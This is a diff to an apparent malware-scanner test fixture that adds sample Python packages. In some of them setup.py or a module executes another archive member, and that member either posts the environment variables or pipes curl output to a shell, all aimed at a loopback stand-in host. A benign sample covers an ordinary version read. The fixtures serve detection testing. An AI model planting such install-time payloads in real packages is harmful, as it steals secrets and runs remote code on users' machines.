@@ -864,8 +864,55 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # ADR 0032: setup.py or a module runs the text of another member of the archive as code.
+    "file-exec": (
+        "notes-0.1.tar.gz",
+        sdist(
+            "notes",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\n\nexec(open('notes/changes.txt').read())\nsetup(name='notes', version='0.1')\n",
+                "notes/__init__.py": "",
+                "notes/changes.txt": "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/c', repr(dict(os.environ)).encode())\n",
+            },
+        ),
+    ),
+    "file-exec:path-built-and-read-through-with": (
+        "notes2-0.1.tar.gz",
+        sdist(
+            "notes2",
+            "0.1",
+            {
+                "setup.py": "import os\nfrom setuptools import setup\n\nhere = os.path.abspath(os.path.dirname(__file__))\nwith open(os.path.join(here, 'notes2', 'cha' + 'nges')) as f:\n    code = compile(f.read(), 'changes', 'exec')\nexec(code)\nsetup(name='notes2', version='0.1')\n",
+                "notes2/__init__.py": "",
+                "notes2/changes": "import subprocess\nsubprocess.Popen('curl -s http://127.0.0.1:9/x | sh', shell=True)\n",
+            },
+        ),
+    ),
+    "file-exec:module-runs-data-on-import": (
+        "blobby-0.1-py3-none-any.whl",
+        wheel(
+            "blobby",
+            "0.1",
+            {
+                "blobby/__init__.py": "import runpy\nfrom pathlib import Path\n\nrunpy.run_path(str(Path(__file__).parent / 'data' / 'table.dat'))\n",
+                "blobby/data/table.dat": "import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/c', repr(dict(os.environ)).encode())\n",
+            },
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
+    # ADR 0032: a setup.py reading its version the usual way stays allowed.
+    "versioned-1.0.tar.gz": sdist(
+        "versioned",
+        "1.0",
+        {
+            "setup.py": "import os\nfrom setuptools import setup\n\nabout = {}\nwith open(os.path.join(os.path.dirname(__file__), 'versioned', '__version__.py')) as f:\n    exec(f.read(), about)\nexec(open('versioned/_meta.py').read())\nsetup(name='versioned', version=about['__version__'])\n",
+            "versioned/__init__.py": "from .__version__ import __version__\n",
+            "versioned/__version__.py": "__version__ = '1.0'\n",
+            "versioned/_meta.py": "AUTHOR = 'someone'\n",
+        },
+    ),
     "tidy-1.0-py3-none-any.whl": wheel(
         "tidy",
         "1.0",
